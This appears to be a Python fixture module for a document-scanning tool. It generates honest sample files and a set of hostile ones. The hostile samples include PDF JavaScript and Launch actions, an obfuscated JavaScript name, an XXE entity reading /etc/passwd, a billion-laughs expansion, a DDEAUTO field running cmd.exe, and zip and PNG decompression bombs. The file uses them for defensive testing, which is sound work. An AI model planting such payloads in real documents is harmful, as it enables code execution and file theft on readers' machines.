"""Files for the program that looks into files: honest ones of each kind, and ones that should never be opened."""

import io
import struct
import warnings
import zipfile
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from reviewboard.sample.files import docx, pdf

PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAW = "http://schemas.openxmlformats.org/drawingml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
AUTHOR = "Nora Nameless"


def archive(parts, packed=zipfile.ZIP_DEFLATED):
    """Return parts, texts or bytes by their names, as an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packed) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def with_parts(file, **parts):
    """Return an archive with further parts; "__" in a name stands for a slash, "_dot_" for a dot."""
    with zipfile.ZipFile(io.BytesIO(file)) as old:
        kept = {name: old.read(name) for name in old.namelist()}
    return archive(kept | {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()})


def relationships(*targets):
    """Return a part of relationships: (id, last word of its type, target, mode)."""
    lines = "".join(
        f'<Relationship Id="{one}" Type="{OFFICE}/{kind}" Target="{target}"{f" TargetMode={mode!r}" if mode else ""}/>'
        for one, kind, target, mode in targets
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{lines}</Relationships>'


def written(change, text="A page."):
    """Return a PDF of one page after `change` took its writer."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(text))))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(**entries):
    """Return an action of a PDF."""
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})


def opening(**entries):
    """Return a PDF that does something when it is opened."""
    return written(lambda writer: writer.root_object.update({NameObject("/OpenAction"): action(**entries)}))


def name(text):
    """Return a name of a PDF."""
    return NameObject(f"/{text}")


def linked():
    """Return a PDF with an honest link."""
    return written(lambda writer: writer.add_annotation(0, Link(rect=(9, 9, 99, 30), url="https://example.org/")))


def pages(number):
    """Return a PDF of so many pages."""
    def more(writer):
        for _ in range(number - 1):
            writer.add_page(writer.pages[0])

    return written(more, "The same page again.")


def workbook():
    """Return a workbook of two sheets, with a date, a shared text and a gap."""
    dated = 46_112  # 2026-03-31
    return archive({
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>',
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="Partenaires" r:id="rId2"/>'
                           '<sheet name="Suivi" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relationships(
            ("rId1", "worksheet", "worksheets/sheet1.xml", ""), ("rId2", "worksheet", "/xl/worksheets/sheet2.xml", "")
        ),
        "xl/sharedStrings.xml": f'<sst xmlns="{SHEET}"><si><t>Bureau</t></si>'
                                '<si><r><t>Depuis </t></r><r><t>le</t></r></si></sst>',
        "xl/styles.xml": f'<styleSheet xmlns="{SHEET}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData>'
                                    '<row><c r="A1"><v>3.5</v></c></row></sheetData></worksheet>',
        "xl/worksheets/sheet2.xml": f'<worksheet xmlns="{SHEET}"><sheetData>'
                                    '<row><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c></row>'
                                    '<row><c r="A2" t="inlineStr"><is><t>Rive &amp; Nord</t></is></c>'
                                    f'<c r="C2" s="1"><v>{dated}</v></c></row></sheetData></worksheet>',
    })  # fmt: skip


def presentation():
    """Return a presentation whose slides are shown in another order than they are numbered."""
    def slide(words):
        return (f'<p:sld xmlns:p="{SLIDE}" xmlns:a="{DRAW}"><p:cSld><a:p><a:r><a:t>{words}</a:t></a:r></a:p></p:cSld></p:sld>')

    return archive({
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>',
        "ppt/presentation.xml": f'<p:presentation xmlns:p="{SLIDE}" xmlns:r="{OFFICE}"><p:sldIdLst><p:sldId r:id="b"/>'
                                '<p:sldId r:id="a"/></p:sldIdLst></p:presentation>',
        "ppt/_rels/presentation.xml.rels": relationships(
            ("a", "slide", "slides/slide1.xml", ""), ("b", "slide", "slides/slide2.xml", "")
        ),
        "ppt/slides/slide1.xml": slide("Shown last"), "ppt/slides/slide2.xml": slide("Shown first"),
    })  # fmt: skip


def photo(**more):
    """Return a JPEG with its author, its place on earth, a comment, and turned by its camera."""
    exif = Image.Exif()
    exif[0x013B], exif[0x0112] = AUTHOR, 6
    exif.get_ifd(0x8825).update({1: "N", 2: (45.0, 30.0, 0.0), 3: "W", 4: (73.0, 34.0, 0.0)})
    out = io.BytesIO()
    Image.new("RGB", (400, 200), "teal").save(out, "JPEG", exif=exif, comment=AUTHOR.encode(), **more)
    return out.getvalue()


def bomb(edge):
    """Return a PNG that says it is so large, and is not."""
    header = struct.pack(">IIBBBBB", edge, edge, 8, 2, 0, 0, 0)

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")


def _named_script(writer):
    script = action(S=name("JavaScript"), JS=TextStringObject("app.alert(1)"))
    named = DictionaryObject({name("Names"): ArrayObject([TextStringObject("a"), script])})
    writer.root_object[name("Names")] = DictionaryObject({name("JavaScript"): named})


def _spelled_otherwise():
    plain = opening(S=name("JavaScript"), JS=TextStringObject("x"))
    return plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def _encrypted(writer):
    writer.encrypt("a secret", algorithm="RC4-128")


def _document(body, entities=""):
    return f'<?xml version="1.0"?>{entities}<w:document xmlns:w="{WORD}"><w:body><w:p>{body}</w:p></w:body></w:document>'


def _twins():
    out = io.BytesIO(docx("x"))
    with zipfile.ZipFile(out, "a") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        made.writestr("word/document.xml", _document("<w:r><w:t>Another</w:t></w:r>"))
    return out.getvalue()



LAUGHS = "<!DOCTYPE w [" + '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
) + "]>"  # fmt: skip
ENTITY = '<!DOCTYPE w [<!ENTITY from SYSTEM "file:///etc/passwd">]>'

HOSTILE = {
    "javascript on opening": ("pdf", "script", lambda: opening(S=name("JavaScript"), JS=TextStringObject("app.alert(1)"))),
    "javascript under another spelling": (
        "pdf", "script",
        lambda: _spelled_otherwise(),
    ),
    "javascript by name": ("pdf", "script", lambda: written(_named_script)),
    "interactive form program": ("pdf", "script", lambda: written(
        lambda writer: writer.root_object.update({name("AcroForm"): DictionaryObject({name("XFA"): ArrayObject()})})
    )),
    "launch": ("pdf", "launch", lambda: opening(S=name("Launch"), F=TextStringObject("cmd.exe"))),
    "file within a pdf": ("pdf", "embedded", lambda: written(lambda writer: writer.add_attachment("tool.exe", b"MZ"))),
    "form sent elsewhere": ("pdf", "external", lambda: opening(S=name("SubmitForm"), F=TextStringObject("https://example.org"))),
    "page of the web on opening": ("pdf", "external", lambda: opening(S=name("URI"), URI=TextStringObject("https://example.org"))),
    "password": ("pdf", "encrypted", lambda: written(_encrypted)),
    "truncated pdf": ("pdf", "broken", lambda: pdf("Cut off.")[:180]),
    "no pdf at all": ("pdf", "broken", lambda: b"%PDF-1.7\n" + b"\0" * 400),
    "too many pages": ("pdf", "too_many_pages", lambda: pages(501)),
    "billion laughs": ("docx", "broken", lambda: with_parts(docx("x"), **{"word__document_dot_xml": _document(
        "<w:r><w:t>&a11;</w:t></w:r>", LAUGHS)})),
    "external entity": ("docx", "broken", lambda: with_parts(docx("x"), **{"word__document_dot_xml": _document(
        "<w:r><w:t>&from;</w:t></w:r>", ENTITY)})),
    "template from elsewhere": ("docx", "external", lambda: with_parts(docx("x"), **{"word___rels__settings_dot_xml_dot_rels":
        relationships(("rId1", "attachedTemplate", "https://example.org/evil.dotm", "External"))})),
    "picture from elsewhere": ("docx", "external", lambda: with_parts(docx("x"), **{"word___rels__document_dot_xml_dot_rels":
        relationships(("rId1", "image", "https://example.org/seen.png", "External"))})),
    "command in a field": ("docx", "script", lambda: with_parts(docx("x"), **{"word__document_dot_xml": _document(
        '<w:r><w:instrText> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText></w:r>')})),
    "macros": ("docx", "macro", lambda: with_parts(docx("x"), **{"word__vbaProject_dot_bin": b"x"})),
    "program within a document": (
        "docx", "embedded", lambda: with_parts(docx("x"), **{"word__embeddings__oleObject1_dot_bin": b"x"})
    ),
    "archive that blows up": ("docx", "bomb", lambda: with_parts(docx("x"), **{"word__big_dot_xml": b"\0" * 30_000_000})),
    "archive cut off": ("docx", "broken", lambda: docx("x")[:300]),
    "two parts of one name": ("docx", "broken", lambda: _twins()),
    "picture that blows up": ("png", "too_large", lambda: bomb(60_000)),
    "picture without its points": ("png", "broken", lambda: bomb(500)),
    "photo cut off": ("jpg", "broken", lambda: photo()[:-400]),
    "text that is none": ("txt", "broken", lambda: b"\xff\xfe\x00"),
    "text of nothing": ("txt", "broken", lambda: b" \n \n"),
}  # fmt: skip
"""By what it is: the ending, the reason for which it is refused, what makes it."""
